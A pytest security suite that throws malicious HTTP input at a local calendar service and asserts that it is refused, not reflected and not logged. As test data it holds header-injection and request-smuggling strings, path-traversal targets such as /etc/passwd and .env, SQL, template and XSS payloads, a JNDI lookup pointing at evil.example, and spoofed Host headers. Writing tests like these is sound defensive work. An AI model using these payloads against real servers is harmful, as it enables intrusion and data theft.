"""What malice sends to a real server: none of it breaks an answer, comes back, or is written down.

Whatever is sent here bears a mark or the name of a strange host. When the server has stopped, its
whole log is searched for them, and for answers of 5xx.
"""

import io
import json
import re
import socket
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from html.parser import HTMLParser

import httpx2
import pytest
from icalendar import Calendar, Component

from calsvc.parsing.names import LONGEST_NAME, clean_name
from calsvc.web.request_body import LONGEST_BODY, MOST_FIELDS
from calsvc.web.server.http_connection import LONGEST_LINE
from tests.support import servers

REQUEST_ID = re.compile(r"\[[0-9a-f]{16}\]")
"""By chance it may hold any digits."""
MARK = "zqmark"
EVIL = "evil.example"
INJECTED = "x-injected"
GOOD = "born=1985-04-23&issued=2020-06-01"
BORN = {"born": "1985-04-23", "issued": "2020-06-01"}
LONG_ENOUGH = 10
"""Seconds after which a silent server has failed the test."""
FORM = "application/x-www-form-urlencoded"


@dataclass(frozen=True)
class Answer:
    """What came back over a socket: the first answer and all that followed it."""

    raw: bytes

    @property
    def status(self) -> int:
        found = re.match(rb"HTTP/1\.1 (\d{3}) ", self.raw)
        assert found, self.raw[:200]
        return int(found[1])

    @property
    def head(self) -> str:
        return self.raw.partition(b"\r\n\r\n")[0].decode("latin-1").lower()

    @property
    def text(self) -> str:
        return self.raw.decode("utf-8", "replace").lower()


@dataclass(frozen=True)
class Server:
    """Where to send it, as it stands or by a well-behaved ``client``."""

    port: int
    client: httpx2.Client

    @property
    def base(self) -> str:
        return f"http://localhost:{self.port}"

    def send(self, request: bytes) -> Answer:
        """``request`` as it stands; then no more is sent."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=LONG_ENOUGH) as line:
            try:
                line.sendall(request)
                line.shutdown(socket.SHUT_WR)
                received = b"".join(iter(lambda: line.recv(65536), b""))
            except ConnectionError:  # it had heard enough
                received = b""
        return Answer(received)

    def get(self, target: bytes, *headers: bytes, host: bytes = b"localhost") -> Answer:
        lines = [b"GET " + target + b" HTTP/1.1", b"Host: " + host, *headers, b"Connection: close"]
        return self.send(b"\r\n".join(lines) + b"\r\n\r\n")

    def post(self, path: str, content: bytes, media_type: str, **headers: str) -> httpx2.Response:
        return self.client.post(
            self.base + path, content=content, headers={"Content-Type": media_type, **headers}
        )

    def link(self, *names: str) -> dict[str, str]:
        """The addresses of a household whose cards bear ``names``."""
        body = {"cards": [{**BORN, "name": name} for name in names], "lang": "en"}
        answer = self.client.post(f"{self.base}/api/links", json=body)
        assert answer.status_code == 200
        addresses: dict[str, str] = answer.json()
        return addresses


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("malice")
    with (
        servers.served(folder, CALSVC_POSTS_PER_MINUTE="100000") as served,
        httpx2.Client() as client,
    ):
        yield Server(served.port, client)
    written = REQUEST_ID.sub("", served.said().lower())
    for trace in (MARK, EVIL, INJECTED, "1985", "traceback", "failed:"):
        assert trace not in written
    assert not re.search(r"calsvc\.access \S+ \S+ 5\d\d ", written)


def assert_harmless(answer: Answer) -> None:
    """No failure, no header that was sent along, and nothing of what was sent."""
    assert 200 <= answer.status < 500
    assert answer.raw.count(b"HTTP/1.1 ") == 1
    assert not re.search(rf"^({INJECTED}|set-cookie|location)\b", answer.head, re.MULTILINE)
    assert MARK not in answer.text
    assert EVIL not in answer.text


def assert_refused(answer: httpx2.Response, status: int = 400) -> None:
    assert answer.status_code == status
    told = f"{answer.headers} {answer.text}".lower()
    assert MARK not in told
    assert EVIL not in told


# --- headers and lines ----------------------------------------------------------------------------

BREAKS = (
    "%0d%0a",
    "%0a",
    "%0d",
    "%E5%98%8A%E5%98%8D",
    "%c0%8d%c0%8a",
    "%00",
    "%e2%80%a8",
    "\\r\\n",
)
PLACES = (
    "/{}",
    "/c/{}",
    "/c/{}.ics",
    "/static/{}",
    "/calendar.ics?{}",
    "/calendar.ics?born={}",
    f"/calendar.ics?{GOOD}&lang={{}}",
    f"/api/milestones?{GOOD}&alarms={{}}",
    f"/api/milestones?{GOOD}&{{}}=1",
    "/?lang={}",
    "/static/page.css?v={}",
)


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("line_break", BREAKS)
@pytest.mark.parametrize("accept", [b"*/*", b"text/html"])
def test_no_line_break_in_an_address_makes_a_header(
    server: Server, place: str, line_break: str, accept: bytes
) -> None:
    injection = f"{MARK}{line_break}{INJECTED}:1{line_break}{line_break}{MARK}"
    assert_harmless(server.get(place.format(injection).encode(), b"Accept: " + accept))


@pytest.mark.parametrize(
    "name",
    [
        *("Accept", "Accept-Language", "Accept-Encoding", "User-Agent", "Cookie", "Origin"),
        *("If-None-Match", "If-Modified-Since", "X-Forwarded-Host", "X-Forwarded-For", "Referer"),
        *("X-Request-Id", "Range", "Expect"),
    ],
)
@pytest.mark.parametrize(
    "value",
    [
        MARK.encode() + each
        for each in (
            b"\r X-Injected: 1",
            b"\n X-Injected: 1",
            b"\r\nX-Injected: 1",
            b"\r\n X-Injected: 1",
            b"\0",
            b"\x80\xff",
            b"\x1b[31m",
            b'"<script>',
            b"," * 5000,
            b"a" * 20000,
            b";q=1e999",
            b";q=\xd9\xa3",
        )
    ],
)
@pytest.mark.parametrize("target", [b"/", f"/calendar.ics?{GOOD}".encode()])
def test_no_value_of_a_header_comes_back(
    server: Server, name: str, value: bytes, target: bytes
) -> None:
    assert_harmless(server.get(target, name.encode() + b": " + value))


BODY = json.dumps({"cards": [{"born": MARK}]}).encode()
SMUGGLED = f"GET /{MARK} HTTP/1.1\r\nHost: localhost\r\n{INJECTED}: 1\r\n\r\n".encode()


@pytest.mark.parametrize(
    "lines",
    [
        b"Content-Length: 5\r\nContent-Length: 6",
        b"Content-Length: 4\r\nTransfer-Encoding: chunked",
        b"Transfer-Encoding: chunked, identity",
        b"Transfer-Encoding: xchunked",
        b"Transfer-Encoding : chunked",
        b"Transfer-Encoding: \x0bchunked",
        b"Content-Length: -1",
        b"Content-Length: +5",
        b"Content-Length: 0x10",
        b"Content-Length: 99999999999999999999",
        b"Content-Length: 5 5",
        b"Content-Length: zqmark",
        b"X Y: zqmark",
        b": zqmark",
        b"zqmark",
        b"\x00: zqmark",
        b"X-Long: " + b"zqmark" * 20000,
        b"\r\n".join(b"X-%d: zqmark" % number for number in range(3000)),
    ],
)
@pytest.mark.parametrize("path", [b"/", b"/api/links"])
def test_no_second_request_is_smuggled_in(server: Server, lines: bytes, path: bytes) -> None:
    head = b"POST " + path + b" HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    answer = server.send(head + lines + b"\r\nConnection: close\r\n\r\n0\r\n\r\n" + SMUGGLED)
    if answer.raw:
        assert_harmless(answer)
        assert answer.status >= 400


@pytest.mark.parametrize("path", [b"/", b"/api/links"])
@pytest.mark.parametrize("sent", [0, 1, 30_000])
def test_who_hangs_up_in_the_middle_of_a_body_is_no_failure(
    server: Server, path: bytes, sent: int
) -> None:
    media_type = b"application/json" if path == b"/api/links" else FORM.encode()
    head = b"POST %b HTTP/1.1\r\nHost: localhost\r\nContent-Type: %b\r\nContent-Length: 60000"
    server.send(head % (path, media_type) + b"\r\n\r\n" + b"z" * sent)


@pytest.mark.parametrize(
    "request_line",
    [
        b"",
        b"\r\n\r\n",
        b"\0\0\0\0",
        b"GET",
        b"GET /zqmark",
        b"GET /zqmark HTTP/9.9",
        b"GET  /zqmark  HTTP/1.1",
        b"G\xc3\x8bT /zqmark HTTP/1.1",
        b"ZQMARK / HTTP/1.1",
        b"GET\t/zqmark\tHTTP/1.1",
        b"GET /zq mark HTTP/1.1",
        b"GET " + b"/zqmark" * 20000 + b" HTTP/1.1",
        b"PRI * HTTP/2.0",
        b"CONNECT evil.example:443 HTTP/1.1",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    ],
)
def test_a_broken_request_line_is_refused(server: Server, request_line: bytes) -> None:
    answer = server.send(request_line + b"\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    if answer.raw:
        assert answer.status < 500
        assert MARK not in answer.text
        assert EVIL not in answer.text


# --- paths ----------------------------------------------------------------------------------------

TRICKS = (
    b"//",
    b"///",
    b"//evil.example",
    b"//evil.example/%2e%2e",
    b"/\\evil.example",
    b"/%5cevil.example",
    b"/%2f%2fevil.example",
    b"/.evil.example",
    b"/@evil.example",
    b"http://evil.example/",
    b"http://evil.example/calendar.ics",
    b"https:evil.example",
    b"/..",
    b"/../../../../etc/passwd",
    b"/%2e%2e/%2e%2e/etc/passwd",
    b"/..%2f..%2fetc%2fpasswd",
    b"/%252e%252e/etc/passwd",
    b"/..;/etc/passwd",
    b"/..\\..\\etc\\passwd",
    b"/..%c0%af..%c0%afetc/passwd",
    b"/static",
    b"/static/",
    b"/static/.",
    b"/static/..",
    b"/static/../app.py",
    b"/static/%2e%2e/app.py",
    b"/static/..%2fapp.py",
    b"/static/..%5capp.py",
    b"/static/....//app.py",
    b"/static//etc/passwd",
    b"/static/%2fetc%2fpasswd",
    b"/static/page.css/",
    b"/static/page.css/..",
    b"/static/page.css%00",
    b"/static/page.css%00.js",
    b"/static/%00",
    b"/static/robots.txt",
    b"/static/PAGE.CSS",
    b"/static/page.css%20",
    b"/static/__pycache__",
    b"/c/",
    b"/c/.ics",
    b"/c//.ics",
    b"/c/../healthz",
    b"/c/%2e%2e.ics",
    b"/c/zqmark%2fzqmark",
    b"/c/zqmark/zqmark.ics",
    b"/c/%00.ics",
    b"/c/1" + b"A" * 60,
    b"/c/1" + b"A" * 60 + b".ics",
    b"/c/1" + b"A" * 3000 + b".ics",
    b"/c/" + b"%41" * 3000 + b".ics",
    b"/c/\xff\xfe.ics",
    b"/\xff",
    b"/%ff",
    b"/%",
    b"/%zz",
    b"/%u0041",
    b"/\xe2\x80\xae",
    b"/healthz/",
    b"/healthz/../healthz",
    b"/./healthz",
    b"/healthz%00",
    b"/healthz;zqmark",
    b"/calendar.ics/",
    b"/calendar.ics%00",
    b"/calendar.ics;zqmark",
    b"/calendar.ics/../../etc/passwd",
    b"/openapi.json/..",
    b"/staff",
    b"/staff/../staff",
    b"/.git/config",
    b"/.env",
    b"/calsvc/web/app.py",
    b"?zqmark",
    b"*",
    b"",
)


@pytest.mark.parametrize("path", TRICKS)
@pytest.mark.parametrize("accept", [b"*/*", b"text/html"])
def test_no_path_leads_out_of_the_routes(server: Server, path: bytes, accept: bytes) -> None:
    answer = server.get(path, b"Accept: " + accept)
    assert_harmless(answer)
    for content in ("root:", "import ", "[core]", "calsvc_keys", "def "):
        assert content not in answer.text


# --- fields ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        f"{GOOD}&born={MARK}",
        "&".join([f"born={MARK}"] * 15),
        "&".join([f"born={MARK}"] * 1000),
        "&".join(f"{MARK}{number}=1" for number in range(19)),
        "&".join(f"{MARK}{number}=1" for number in range(2000)),
        "&" * 5000,
        "=" * 5000,
        f"born={MARK * 5000}",
        f"{MARK * 5000}=1",
        f"born={'9' * 20000}",
        f"born={'%EF%B7%BA' * 2000}",
        f"born={'1' * 41}",
        f"born[]={MARK}",
        f"born[$ne]={MARK}",
        f"born={MARK}'%20OR%20'1'='1",
        "born=${jndi:ldap://evil.example/a}",
        "born={{7*7}}&issued={{7*7}}",
        "born=%s%n%x&issued=../../etc/passwd",
        f"born=0000-00-00&issued={MARK}",
        "born=9999-12-31&issued=9999-12-31",
        "born=-1&card_expires=-1",
        f"{GOOD};lang={MARK}",
        f"{GOOD}&__proto__[x]={MARK}",
    ],
)
@pytest.mark.parametrize("path", ["/calendar.ics", "/api/milestones"])
def test_oversized_repeated_and_foreign_parameters_are_refused(
    server: Server, path: str, query: str
) -> None:
    target = f"{path}?{query}".encode()
    answer = server.get(target)
    assert_harmless(answer)
    assert answer.status == (414 if len(target) > LONGEST_LINE else 400)
    assert len(answer.raw) < 8000


def household(**more: object) -> bytes:
    return json.dumps({"cards": [BORN], **more}).encode()


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b"", 400),
        (b"null", 400),
        (b"[]", 400),
        (b'"zqmark"', 400),
        (b"NaN", 400),
        (b"{", 400),
        (b"[" * 60000, 400),
        (b'{"cards":' * 6000, 400),
        (b'{"cards":[{"born":' + b"9" * 60000 + b"}]}", 400),
        (b'{"cards":[{"born":1e999,"issued":-0.0}]}', 400),
        (b'{"cards":[{"born":["zqmark"],"issued":{"zqmark":1}}]}', 400),
        (b'{"cards":[null,1,"zqmark",[],{}]}', 400),
        (b'{"cards":{"zqmark":1}}', 400),
        (b'{"cards":[' + b"{}," * 10 + b"{}]}", 400),
        (b'{"cards":[{"born":"\\ud800","issued":"\\udfff"}]}', 400),
        (b'{"cards":[{"\\ud800zqmark":"1"}]}', 400),
        (b'{"cards":[{"born":"1985-04-23","issued":"2020-06-01\\u0000zqmark"}]}', 400),
        (household(lang="zqmark"), 400),
        (household(lang=["ja"]), 400),
        (household(lang={}), 400),
        (household(alarms="zqmark"), 400),
        (household(alarms=1), 400),
        (household(__proto__={"zqmark": 1}), 400),
        (household(**{f"zqmark{number}": 1 for number in range(3000)}), 400),
        (json.dumps({"cards": [{**BORN, "name": MARK * 10}]}).encode(), 400),
        (json.dumps({"cards": [{**BORN, "name": 1}]}).encode(), 400),
        (b"\xff\xfe" + household().decode().encode("utf-16-le")[:-1], 400),
        (b"\xef\xbb\xbf\xff" + household(), 400),
        (b'{"cards":"\xff\xfe\xc0\x80zqmark"}', 400),
        (b" " * (LONGEST_BODY + 1), 413),
        (b" " * (LONGEST_BODY * 20), 413),
    ],
)
def test_a_malformed_body_is_refused(server: Server, body: bytes, status: int) -> None:
    answer = server.post("/api/links", body, "application/json")
    assert_refused(answer, status)
    assert len(answer.content) < 8000


@pytest.mark.parametrize(
    "media_type",
    [
        "",
        "text/plain",
        "application/xml",
        "application/jsonx",
        "zqmark",
        "multipart/form-data",
        "*",
    ],
)
@pytest.mark.parametrize("path", ["/", "/api/links"])
def test_another_media_type_is_refused(server: Server, path: str, media_type: str) -> None:
    assert_refused(server.post(path, BODY, media_type), 415)


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b"", 400),
        (b"c1-born-year=zqmark", 400),
        (b"c1-name=zqmark" + b"&c1-name=zqmark" * 300, 400),
        (b"cards=99999999999999999999&c1-name=x", 400),
        (b"cards=%D9%A3", 400),
        (b"do=remove-0&cards=1", 400),
        (b"do=remove-1&cards=zqmark", 200),
        (b"c1-born-year=%ff%fe&c1-born-month=\xc0\x80", 400),
        (b"c1-have=zqmark&c1-born-era=zqmark", 400),
        (b"c1-born-year=" + b"9" * 60000, 400),
        (b"&".join(b"f%d=1" % number for number in range(MOST_FIELDS)), 400),
        (b"&".join(b"f%d=1" % number for number in range(MOST_FIELDS + 1)), 413),
        (b"a" * (LONGEST_BODY + 1), 413),
    ],
)
def test_a_malformed_form_is_shown_again_or_refused(
    server: Server, body: bytes, status: int
) -> None:
    answer = server.post("/", body, FORM)
    assert answer.status_code == status
    assert MARK not in str(answer.headers).lower()
    assert EVIL not in answer.text


# --- hosts and redirections -----------------------------------------------------------------------

HOSTS = (
    b"evil.example",
    b"evil.example:80",
    b"localhost.evil.example",
    b"localhost@evil.example",
    b"localhost:80@evil.example",
    b"evil.example#localhost",
    b"evil.example/localhost",
    b"localhost/evil.example",
    b"localhost evil.example",
    b"localhost,evil.example",
    b"localhost:evil.example",
    b"localhost:8000000",
    b"localhost\tevil.example",
    b'"><script>zqmark',
    b"[::1]evil.example",
    b"[evil.example]",
    b"\xff\xfe",
    b"",
    b"." * 2000,
)
TOKEN_ONLY = re.compile(r"/c/1[\w-]+(\?openExternalBrowser=1)?")


@pytest.mark.parametrize("host", HOSTS)
@pytest.mark.parametrize("path", ["/", "/feed", "/page", f"/calendar.ics?{GOOD}", "/nowhere"])
def test_a_strange_host_is_put_into_no_answer(server: Server, host: bytes, path: str) -> None:
    addresses = server.link("")
    target = {"/feed": addresses["feed"], "/page": addresses["page"]}.get(path, path)
    answer = server.get(target.removeprefix(server.base).encode(), host=host)
    assert_harmless(answer)
    assert "http://localhost" not in answer.text
    if path in ("/", "/page"):
        assert answer.status in (400, 421)


@pytest.mark.parametrize("host", [EVIL, f"{EVIL}:80", f"localhost@{EVIL}"])
def test_no_link_is_made_for_a_strange_host(server: Server, host: str) -> None:
    assert_refused(server.post("/api/links", household(), "application/json", Host=host), 421)
    assert_refused(server.post("/", b"c1-born-year=1985", FORM, Host=host), 421)


@pytest.mark.parametrize(
    "headers",
    [
        {"X-Forwarded-Host": EVIL},
        {"X-Host": EVIL},
        {"X-Forwarded-Server": EVIL},
        {"Forwarded": f"host={EVIL};proto=https"},
        {"X-Original-URL": f"//{EVIL}"},
        {"X-Rewrite-URL": f"//{EVIL}"},
        {"X-Forwarded-Prefix": f"//{EVIL}"},
        {"X-Forwarded-For": EVIL},
        {"X-Forwarded-Proto": EVIL},
        {"X-Forwarded-Proto": f"https://{EVIL}/"},
        {"Origin": f"https://{EVIL}"},
        {"Referer": f"https://{EVIL}/"},
    ],
)
def test_no_header_of_proxies_moves_a_link(server: Server, headers: Mapping[str, str]) -> None:
    made = server.post("/api/links", household(), "application/json", **headers)
    assert made.status_code == 200
    assert EVIL not in f"{made.headers} {made.text}"
    page = made.json()["page"].replace("https://", "http://")
    for address in (page, f"{server.base}/", f"{server.base}/calendar.ics?{GOOD}"):
        answer = server.client.get(address, headers=headers)
        assert answer.status_code == 200
        assert EVIL not in f"{answer.headers} {answer.text}"


VALID_FORM = (
    "cards=1&c1-have=issued&c1-born-era=&c1-born-year=1985&c1-born-month=4&c1-born-day=23"
    "&c1-issued-year=2020&c1-issued-month=6&c1-issued-day=1"
)


@pytest.mark.parametrize(
    "field",
    ["next", "url", "return", "returnUrl", "redirect", "redirect_uri", "continue", "goto", "lang"],
)
@pytest.mark.parametrize("agent", ["Mozilla/5.0", f"Line/9 {EVIL}\tzqmark"])
def test_the_form_leads_to_its_own_link_alone(server: Server, field: str, agent: str) -> None:
    for query in ("", f"?{field}=//{EVIL}", f"?{field}=https://{EVIL}/%0d%0a"):
        body = f"{VALID_FORM}&{field}=https://{EVIL}/".encode()
        answer = server.post(f"/{query}", body, FORM, **{"User-Agent": agent})
        assert answer.status_code == 303
        assert TOKEN_ONLY.fullmatch(answer.headers["Location"])


# --- names on pages -------------------------------------------------------------------------------

MARKUP = (
    "<svg onload=a()>",
    "<script>a()</script>",
    "<script src=//a>",
    '"><img src=x>',
    "'><b onclick=a>",
    '" onmouseover="a()',
    "' autofocus onfocus=",
    "</title><script>",
    "</textarea><b>",
    "<!--<b>",
    "--><b>",
    "]]><b>",
    "&lt;b&gt;",
    "&#60;b&#62;",
    "javascript:a()",
    "{{7*7}}",
    "${7*7}",
    "{% raw %}<b>",
    "<%= 7*7 %>",
    "\u003cb\u003e",
    "\uff1cscript\uff1e",
    "<\u200dscript>",
    "<b\u0000onload=a>",
    "\u202e<b>\u202c",
    "<a href=//evil.e>",
    "<base href=//a>",
    "<meta http-equiv=a>",
    "<iframe src=a>",
    "<style>*{}",
    "`${a}`",
)


class Elements(HTMLParser):
    """The elements of a page, each with its attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    @property
    def shape(self) -> list[tuple[str, tuple[str, ...]]]:
        return [(tag, tuple(attributes)) for tag, attributes in self.found]


def page_of(server: Server, *names: str) -> Elements:
    answer = server.client.get(server.link(*names)["page"])
    assert answer.status_code == 200
    return Elements(answer.text)


@pytest.mark.parametrize("name", MARKUP)
def test_a_name_on_a_page_is_text_and_nothing_else(server: Server, name: str) -> None:
    assert len(clean_name(name)) <= LONGEST_NAME
    page, harmless = page_of(server, name, "b"), page_of(server, "a", "b")
    assert page.shape == harmless.shape
    assert clean_name(name) in page.text
    for _, attributes in page.found:
        assert not [each for each in attributes if each.startswith("on")]
        assert not (attributes.get("href") or "").startswith(("javascript:", "//"))


@pytest.mark.parametrize("text", [*MARKUP, "<script>alert(document.domain)</script>" * 20])
@pytest.mark.parametrize(
    "field", ["c1-name", "c1-born-year", "c1-born-era", "c1-issued-day", "cards"]
)
def test_what_was_typed_comes_back_into_the_form_as_text(
    server: Server, field: str, text: str
) -> None:
    def form(value: str) -> Elements:
        answer = server.client.post(server.base, data={"c1-have": "issued", field: value})
        assert answer.status_code == 400
        return Elements(answer.text)

    page = form(text)
    assert {tag for tag, _ in page.found} == {tag for tag, _ in form("x").found}
    for _, attributes in page.found:
        assert not [each for each in attributes if each.startswith("on")]


@pytest.mark.parametrize("text", MARKUP)
def test_no_markup_in_an_address_reaches_a_page(server: Server, text: str) -> None:
    for path in ("/nowhere", "/", "/calendar.ics", "/c/x"):
        query = {"lang": text, text: "1", "born": text}
        answer = server.client.get(
            server.base + path, params=query, headers={"Accept": "text/html"}
        )
        assert answer.status_code in (200, 400, 404)
        assert text not in answer.text or text in server.client.get(server.base).text


# --- names in calendars ---------------------------------------------------------------------------

IN_CALENDARS = (
    "A\r\nBEGIN:VEVENT",
    "A\nEND:VEVENT",
    "A\rEND:VCALENDAR",
    "\r\nX-INJECTED:1",
    "\r\n X-INJECTED:1",
    "A\\nX-INJECTED:1",
    "A\\r\\nATTENDEE:a",
    "A\u2028X-INJECTED:1",
    "A\u2029X-INJECTED:1",
    "A\x85X-INJECTED:1",
    "A\x0bX-INJECTED:1",
    "A\x0cX-INJECTED:1",
    "A\x1cX-INJECTED:1",
    "A\x00\r\nX-INJECTED:1",
    "A^nX-INJECTED:1",
    "a,b,c",
    "a;b;c",
    ";VALUE=DATE:20200101",
    "a:b:c",
    "a\\",
    "a\\\\",
    "\\,\\;\\n\\N",
    '"a";"b"',
    "'a'",
    "DTSTART:20200101",
    "BEGIN:VALARM",
    "%0d%0aX-INJECTED:1",
    "=0D=0AX-INJECTED:1",
    "&#13;&#10;X:1",
    "\u202eEND:VEVENT",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 3,
    "e\u0301" * 10,
    "\u0e01" * 20,
    "@evil.example",
    "mailto:a@b.example",
)


@pytest.mark.parametrize("name", IN_CALENDARS)
def test_a_name_in_a_calendar_is_text_and_nothing_else(server: Server, name: str) -> None:
    answer = server.client.get(server.link(name, "b")["feed"])
    assert answer.status_code == 200
    calendar = Calendar.from_ical(answer.content)
    harmless = Calendar.from_ical(server.client.get(server.link("a", "b")["feed"]).content)
    assert shape(calendar) == shape(harmless)
    titles = [str(event["SUMMARY"]) for event in calendar.walk("VEVENT")]
    shown = clean_name(name).replace("\\N", "\n")  # icalendar takes these two for a line break
    assert sum(shown in title for title in titles) == 8
    assert_lines_are_whole(answer.content)


def shape(component: Component) -> list[tuple[str, list[str]]]:
    return [(each.name, sorted(each.keys())) for each in component.walk()]


def assert_lines_are_whole(content: bytes) -> None:
    for line in io.BytesIO(content):
        assert line.endswith(b"\r\n")
        assert line.count(b"\r") == 1
        assert len(line) <= 77
        assert not line.lower().startswith(INJECTED.encode())


@pytest.mark.parametrize("name", [MARK * 4, "\r\n" * 9 + MARK * 4, "<b>" + MARK * 500])
def test_a_name_that_is_too_long_is_refused_and_not_repeated(server: Server, name: str) -> None:
    body = json.dumps({"cards": [{**BORN, "name": name}]}).encode()
    assert_refused(server.post("/api/links", body, "application/json"))
